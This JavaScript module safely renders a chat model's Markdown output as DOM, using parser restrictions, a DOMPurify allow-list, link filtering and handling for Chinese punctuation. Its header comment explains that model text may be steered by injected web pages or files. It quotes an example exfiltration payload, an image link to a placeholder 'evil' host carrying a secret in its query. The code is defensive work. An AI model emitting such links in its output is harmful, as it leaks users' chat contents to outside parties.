// Markdown to DOM, safely. A model's text is written by nobody we trust: it may have been steered by a web page, a file
// or a prompt. Three walls, each enough by itself:
//
//   1. the parser makes no raw HTML: a tag in the text is shown as text, except a few without attributes (<br>, <sub>, ...);
//   2. DOMPurify keeps only the tags and attributes listed here, and builds the nodes itself (no string is set as HTML);
//   3. the server's Content-Security-Policy: no inline script, no foreign origin.
//
// Images are never loaded, only linked: fetching ![](https://evil/?q=secret) would tell its owner what the chat said.
//
// The parser is also made to read Chinese as people write it; see `tokenizer`.

import DOMPurify from "./vendor/dompurify.js";
import { Marked } from "./vendor/marked.js";

const SIMPLE_TAG = /^<\/?(?:br|sub|sup|kbd|mark|u|b|i|em|strong|s|del|ins|small)\s*\/?>/i;
const SAFE_LINK = /^(?:https?:\/\/|mailto:)/i;
const TOO_DEEP = /^(?:[ \t]{0,3}>){60}/m; // each level is parsed again from the inside: time grows with the square
const CJK = /[\u2e80-\u303f\u3040-\u30ff\u3400-\u9fff\uac00-\ud7af\uf900-\ufaff\uff00-\uffef“”‘’—…·]/;

const escape = (text) =>
  text.replace(/[&<>"']/g, (sign) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[sign]);

/** `href` when a click on it may leave the page, else "". Control characters, with which "java\nscript:" hides, go first. */
export function safeLink(href) {
  const plain = String(href ?? "").replace(/[\u0000-\u0020\u007f-\u009f\u200b-\u200f\u2028-\u202f\ufeff]/g, "");
  return SAFE_LINK.test(plain) ? plain : "";
}

const tokenizer = {
  html: () => undefined, // no HTML blocks: their tags are met one by one by `tag`
  tag(source) {
    const match = SIMPLE_TAG.exec(source);
    return match ? { type: "html", raw: match[0], text: match[0], block: false } : undefined;
  },
  // CommonMark closes ** only where words have spaces around them, so **注意：**请看 would show its asterisks.
  emStrong(source, masked, previous) {
    const match = /^\*\*(?![\s*])([^*\n]+?)(?<!\s)\*\*(?!\*)/.exec(source);
    if (!match || match[1].split("`").length % 2 === 0) return false; // false: marked's own rule decides
    const neighbours = [previous, match[1][0], match[1].at(-1), source[match[0].length]];
    if (!neighbours.some((character) => character && CJK.test(character))) return false;
    return { type: "strong", raw: match[0], text: match[1], tokens: this.lexer.inlineTokens(match[1]) };
  },
  // One tilde is a range or a friendly ending in Chinese (3~5天, 好的~), never a strike-through.
  del: (source) => (source.startsWith("~~") ? false : undefined),
  // A bare address ends where Chinese text begins (见https://a.cn/x，然后…), unless a part of its path is Chinese from
  // its first character on (…/wiki/瑞利散射).
  url(source) {
    const match = /^(?:https?:\/\/|www\.)(?:[^\s<>"'`\u2e80-\u9fff\uac00-\ud7af\uf900-\ufaff\uff00-\uffef“”‘’]|(?<=[/=_])[\u3400-\u9fff]+)+/i.exec(source);
    if (!match) return source.includes("@") ? false : undefined;
    let text = match[0].replace(/[.,;:!?*_~]+$/, "");
    while (text.endsWith(")") && text.split(")").length > text.split("(").length) text = text.slice(0, -1);
    const href = /^www\./i.test(text) ? `https://${text}` : text;
    return { type: "link", raw: text, text, href, tokens: [{ type: "text", raw: text, text }] };
  },
};

// Formulas are shown as they were written: without this, Markdown eats the backslashes of \( x_1 \).
const formula = {
  name: "formula",
  level: "inline",
  start: (source) => source.search(/\\[([]|\$\$/),
  tokenizer(source) {
    const match = /^\\\(([\s\S]+?)\\\)|^\\\[([\s\S]+?)\\\]|^\$\$([^$]+?)\$\$/.exec(source);
    return match ? { type: "formula", raw: match[0], text: (match[1] ?? match[2] ?? match[3]).trim() } : undefined;
  },
  renderer: ({ text }) => `<code class="language-math">${escape(text)}</code>`,
};

const renderer = {
  html: ({ text }) => (SIMPLE_TAG.exec(text)?.[0] === text ? text : escape(text)),
  // The page's own headings are h1 and h2; an answer's outline hangs below them.
  heading({ tokens, depth }) {
    const level = Math.min(6, depth + 2);
    return `<h${level}>${this.parser.parseInline(tokens)}</h${level}>\n`;
  },
  code({ text, lang }) {
    const name = /^[\w+#.-]{1,30}/.exec(lang ?? "")?.[0].toLowerCase();
    return `<pre><code${name ? ` class="language-${name}"` : ""}>${escape(text)}\n</code></pre>\n`;
  },
  link({ href, title, tokens }) {
    const inner = this.parser.parseInline(tokens);
    const target = safeLink(href);
    return target ? `<a href="${escape(target)}"${title ? ` title="${escape(title)}"` : ""}>${inner}</a>` : inner;
  },
  image({ href, text }) {
    const target = safeLink(href);
    const label = `🖼 ${escape(text || target)}`;
    return target ? `<a href="${escape(target)}">${label}</a>` : label;
  },
  checkbox: ({ checked }) => (checked ? "☑ " : "☐ "),
};

const marked = new Marked({ gfm: true, breaks: true, tokenizer, renderer, extensions: [formula] });

const POLICY = {
  ALLOWED_TAGS: ["p", "br", "hr", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "pre", "code", "em", "strong", "b",
    "i", "s", "del", "ins", "u", "small", "a", "table", "thead", "tbody", "tr", "th", "td", "sub", "sup", "kbd", "mark", "#text"],
  ALLOWED_ATTR: ["href", "title", "align", "start", "class"],
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  ALLOWED_URI_REGEXP: SAFE_LINK,
  ADD_URI_SAFE_ATTR: ["align", "start"], // values that need not look like a link
  RETURN_DOM_FRAGMENT: true,
};

const purifier = DOMPurify(window);
purifier.addHook("uponSanitizeAttribute", (node, attribute) => {
  // A class could dress text up as a part of the page; the only one known is a code block's language.
  const language = node.nodeName === "CODE" && /^language-[\w+#.-]{1,30}$/.test(attribute.attrValue);
  if (attribute.attrName === "class" && !language) attribute.keepAttr = false;
});
purifier.addHook("afterSanitizeAttributes", (node) => {
  if (node.nodeName !== "A") return;
  node.setAttribute("target", "_blank");
  node.setAttribute("rel", "noopener noreferrer nofollow ugc");
});

/** Untrusted HTML as a fragment of harmless nodes. */
export function sanitise(html) {
  return purifier.sanitize(html, POLICY);
}

/** The text as it is, for what the parser gives up on: thousands of nested quotes exhaust its stack. */
function plain(text) {
  const paragraph = document.createElement("p");
  paragraph.className = "plain";
  paragraph.textContent = text;
  const fragment = document.createDocumentFragment();
  fragment.append(paragraph);
  return fragment;
}

/** The top-level blocks of a Markdown text: marked's tokens; their `raw` strings join to the text (with \n line ends).
 * A text that cannot be parsed is one token of type "plain". */
export function blocks(text) {
  const clean = text.replace(/\r\n?/g, "\n");
  if (TOO_DEEP.test(clean)) return [{ type: "plain", raw: clean }];
  try {
    return marked.lexer(clean);
  } catch {
    return [{ type: "plain", raw: clean }];
  }
}

/** One block as DOM. */
export function blockToDom(token) {
  if (token.type === "plain") return plain(token.raw);
  try {
    return sanitise(marked.parser([token]));
  } catch {
    return plain(token.raw);
  }
}

/** A whole text as DOM, for what is rendered once. */
export function markdownToDom(text) {
  const fragment = document.createDocumentFragment();
  for (const token of blocks(text)) fragment.append(blockToDom(token));
  return fragment;
}
